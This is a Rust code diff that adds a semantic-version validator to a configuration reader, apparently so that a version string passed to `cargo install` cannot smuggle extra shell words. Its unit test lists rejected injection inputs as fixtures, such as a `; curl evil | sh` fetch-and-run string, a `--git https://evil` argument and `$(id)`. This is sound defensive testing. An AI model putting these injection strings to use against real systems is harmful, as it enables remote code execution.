@@ -508,7 +508,18 @@ fn read_shipping(node: &Node, r: &mut Reader<'_>) -> Option<Shipping> {
         return None;
     }
     match (node.get("version"), node.get("image")) {
-        (Some(v), None) => r.string(v, "version").map(Shipping::Version),
+        (Some(v), None) => {
+            let version = r.string(v, "version")?;
+            if !is_version(&version) {
+                r.error(
+                    v.span,
+                    format!("`{version}` is not a version of driftless"),
+                    "write a release's version as MAJOR.MINOR.PATCH, such as `0.2.1` (a pre-release such as `0.3.0-rc.1` too)",
+                );
+                return None;
+            }
+            Some(Shipping::Version(version))
+        }
         (None, Some(i)) => r.string(i, "image").map(Shipping::Image),
         (None, None) => Some(Shipping::Binary),
         (Some(_), Some(_)) => {
@@ -520,6 +531,36 @@ fn read_shipping(node: &Node, r: &mut Reader<'_>) -> Option<Shipping> {
             None
         }
     }
+}
+
+/// A semantic version, `1.2.3` with an optional `-pre.release` and
+/// `+build`: what `cargo install --version` takes as one release, and
+/// nothing a shell could read as more than a word.
+fn is_version(text: &str) -> bool {
+    let (core, rest) = match text.find(['-', '+']) {
+        Some(i) => text.split_at(i),
+        None => (text, ""),
+    };
+    let numbers: Vec<&str> = core.split('.').collect();
+    let number = |n: &&str| {
+        !n.is_empty()
+            && n.len() <= 10
+            && n.bytes().all(|b| b.is_ascii_digit())
+            && (n.len() == 1 || !n.starts_with('0'))
+    };
+    let tail = |t: &str| {
+        t.split('.').all(|part| {
+            !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+        })
+    };
+    let suffix_ok = match rest.strip_prefix('-') {
+        Some(pre) => match pre.split_once('+') {
+            Some((pre, build)) => tail(pre) && tail(build),
+            None => tail(pre),
+        },
+        None => rest.strip_prefix('+').is_none_or(tail),
+    };
+    numbers.len() == 3 && numbers.iter().all(number) && suffix_ok && text.len() <= 64
 }
 
 fn read_tags(node: &Node, r: &mut Reader<'_>) -> BTreeMap<String, String> {
@@ -552,6 +593,26 @@ fn read_tags(node: &Node, r: &mut Reader<'_>) -> BTreeMap<String, String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_version_is_a_semantic_version_and_nothing_a_shell_would_split() {
+        for good in ["0.2.1", "1.0.0-rc.1", "10.20.30+build.5", "1.2.3-alpha-1+x"] {
+            assert!(is_version(good), "{good}");
+        }
+        for bad in [
+            "0.2",
+            "01.2.3",
+            "1.2.3; curl evil | sh",
+            "1.2.3 --git https://evil",
+            "$(id)",
+            "1.2.3-",
+            "1.2.3+",
+            "latest",
+            "",
+        ] {
+            assert!(!is_version(bad), "{bad}");
+        }
+    }
 
     #[test]
     fn every_reads_as_an_eventbridge_rate() {
